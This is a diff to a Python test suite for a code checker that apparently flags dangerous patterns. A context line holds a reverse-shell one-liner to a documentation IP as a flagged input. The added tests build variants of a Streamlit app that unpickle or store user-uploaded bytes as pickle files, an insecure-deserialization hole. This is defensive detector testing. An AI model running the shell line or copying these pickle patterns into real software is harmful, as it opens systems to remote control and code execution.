@@ -248,3 +248,27 @@ def test_what_yara_looks_for() -> None:
     assert not denied("rules/shell.yar", rule)
     assert denied("rules/shell.sh", rule)
     assert denied("rules/shell.yar", "bash -i >& /dev/tcp/203.0.113.7/4242 0>&1\n" + rule)
+
+
+CACHE = (
+    "import os, pickle\nimport streamlit as st\npdf = st.file_uploader('PDF')\n"
+    "if pdf is not None:\n    name = pdf.name[:-4]\n"
+    "    if os.path.exists(f'{name}.pkl'):\n        with open(f'{name}.pkl', 'rb') as f:\n"
+    "            store = pickle.load(f)\n    else:\n        store = [pdf.size]\n"
+    "        with open(f'{name}.pkl', 'wb') as f:\n            pickle.dump(store, f)\n"
+)
+
+
+@pytest.mark.parametrize(
+    "twin",
+    [
+        CACHE.replace("pickle.dump(store, f)", "f.write(pdf.read())"),
+        CACHE.replace("pickle.dump(store, f)", "pickle.dump(store, f); f.seek(0); f.write(pdf.read())"),
+        CACHE + "with open(f'{name}.pkl', 'wb') as g:\n    g.write(pdf.read())\n",
+        CACHE.replace("open(f'{name}.pkl', 'rb')", "open(pdf.name, 'rb')"),
+        CACHE.replace("pickle.load(f)", "pickle.load(pdf)"),
+    ],
+)
+def test_what_a_program_has_pickled_itself(twin: str) -> None:
+    assert not denied("app.py", CACHE)
+    assert denied("app.py", twin)
